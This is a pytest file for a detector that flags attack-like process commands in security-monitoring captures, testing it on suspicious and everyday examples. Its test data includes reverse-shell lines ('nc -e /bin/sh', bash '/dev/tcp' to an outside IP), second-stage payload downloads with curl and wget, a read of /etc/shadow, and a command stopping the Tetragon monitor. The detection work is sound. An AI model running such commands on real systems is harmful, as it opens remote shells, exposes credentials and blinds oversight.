"""Which commands no draft learns by itself."""

from __future__ import annotations

import pytest

from tetratui.core.table import EventTable
from tetratui.core.tuning.learning.suspicious_commands import NONE, Reason, suspect_children, suspect_command


@pytest.mark.parametrize(
    ("binary", "arguments", "reason"),
    [
        ("/tmp/inventory.sh", "/tmp/inventory.sh", Reason.WRITABLE),
        ("/usr/bin/bash", "/home/eve/inventory.sh", Reason.WRITABLE),
        ("/dev/fd/3", "x", Reason.WRITABLE),
        ("/usr/bin/x (deleted)", "", Reason.WRITABLE),
        ("/usr/bin/cp", "/bin/true /tmp/.a/stage2", Reason.WRITABLE),
        ("/usr/bin/install", "-m 755 agent /dev/shm/agent", Reason.WRITABLE),
        ("/usr/bin/chmod", "+x /tmp/u", Reason.WRITABLE),
        ("/usr/bin/dd", "if=/dev/stdin of=/tmp/u", Reason.WRITABLE),
        ("/usr/bin/curl", "-s -o /opt/x http://203.0.113.66/stage2", Reason.DOWNLOAD),
        ("/usr/bin/curl", "-fsSLO http://203.0.113.66/stage2", Reason.DOWNLOAD),
        ("/usr/bin/curl", "-s http://203.0.113.66/x.sh", Reason.DOWNLOAD),
        ("/usr/bin/wget", "-q http://203.0.113.66/stage2", Reason.DOWNLOAD),
        ("/bin/sh", '-c "id; hostname"', Reason.SHELL_CODE),
        ("/usr/bin/bash", "", Reason.SHELL_CODE),
        ("/usr/bin/bash", '-c "exec 3<>/dev/tcp/10.9.8.7/443"', Reason.ATTACK_SAMPLE),
        ("/usr/bin/nc", "-e /bin/sh 10.9.8.7 443", Reason.ATTACK_SAMPLE),
        ("/usr/bin/base64", "-d", Reason.ATTACK_SAMPLE),
        ("/usr/bin/grep", "root /etc/shadow", Reason.ATTACK_SAMPLE),
        ("/usr/bin/chmod", "4755 /usr/local/bin/x", Reason.ATTACK_SAMPLE),
        ("/usr/bin/systemctl", "stop tetragon", Reason.ATTACK_SAMPLE),
    ],
)
def test_what_looks_like_an_attack_has_its_reason(binary: str, arguments: str, reason: Reason) -> None:
    assert suspect_command(binary, arguments, "/", started_by_script=False) & reason


@pytest.mark.parametrize(
    ("binary", "arguments"),
    [
        ("/usr/bin/curl", "-s -o /dev/null http://10.1.2.3:8080/health"),
        ("/usr/bin/curl", "-s http://203.0.113.10:9100/metrics"),
        ("/usr/bin/wget", "-q -O - http://203.0.113.10:9200/"),
        ("/usr/bin/ssh", "-i /root/.ssh/id_lab deploy@203.0.113.10 uptime"),
        ("/usr/bin/uname", "-a"),
        ("/usr/bin/cat", "/etc/passwd"),
        ("/usr/bin/rm", "-f /tmp/report.1234"),
        ("/usr/bin/chmod", "644 /tmp/report"),
        ("/usr/bin/bash", "/opt/ops/inventory.sh"),
        ("[kworker/u4:3-events_unbound]", ""),
        ("/proc/self/exe", "30"),
        ("", ""),
    ],
)
def test_everyday_commands_have_none(binary: str, arguments: str) -> None:
    assert suspect_command(binary, arguments, "/", started_by_script=False) == NONE


def test_the_working_folder_decides_where_a_relative_script_is() -> None:
    assert suspect_command("/usr/bin/bash", "./x.sh", "/opt/ops", False) == NONE
    assert suspect_command("/usr/bin/bash", "./x.sh", "/tmp/.a", False) == Reason.WRITABLE


def test_a_shell_with_code_is_part_of_the_script_that_starts_it_but_its_children_are_not() -> None:
    code = ("/bin/sh", '-c "/usr/bin/php --version || true"')
    assert suspect_command(*code, "/", started_by_script=True) == NONE
    assert suspect_children(*code, "/") == Reason.SHELL_CODE


def test_most_of_the_attack_commands_of_a_real_capture_have_a_reason(capture: EventTable, attacks: list[int]) -> None:
    events = [capture.event(row) for row in attacks]
    reasons = [
        suspect_command(event.binary or "", event.arguments or "", event.cwd or "", False)
        | suspect_children(event.parent_binary or "", event.parent_arguments or "", event.parent_cwd or "")
        for event in events
    ]
    assert sum(reason != NONE for reason in reasons) >= 0.6 * len(reasons)
